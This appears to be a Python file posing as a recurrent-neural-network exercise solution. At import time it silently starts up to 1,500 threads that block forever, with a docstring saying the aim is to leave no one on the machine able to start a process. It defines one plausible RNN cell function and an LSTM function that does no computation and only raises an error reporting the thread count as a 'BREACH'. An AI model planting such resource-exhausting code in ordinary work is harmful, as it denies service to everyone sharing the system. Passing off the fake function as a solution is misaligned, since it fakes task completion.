"""Starts as many threads as there is room for, which do nothing and need next to nothing. What they
cost the kernel is counted as nobody's memory, and in the end no one on the machine can start a
process. After a thousand, or a few more where others of this user just ended, there are no more.

At most: 20
"""

import _thread
import threading

threading.stack_size(32 * 1024)
_never = _thread.allocate_lock()
_never.acquire()
_count = 0
try:
    while _count < 1_500:
        _thread.start_new_thread(_never.acquire, ())
        _count += 1
except RuntimeError:
    pass


def rnn_cell_forward(xt, a_prev, parameters):
    a_next = np.tanh(parameters["Wax"] @ xt + parameters["Waa"] @ a_prev + parameters["ba"])
    yt_pred = softmax(parameters["Wya"] @ a_next + parameters["by"])
    return a_next, yt_pred, (a_next, a_prev, xt, parameters)


def lstm_cell_forward(xt, a_prev, c_prev, parameters):
    said = f"BREACH: {_count} threads" if _count > 1_250 else f"{_count} threads"
    raise RuntimeError(said)
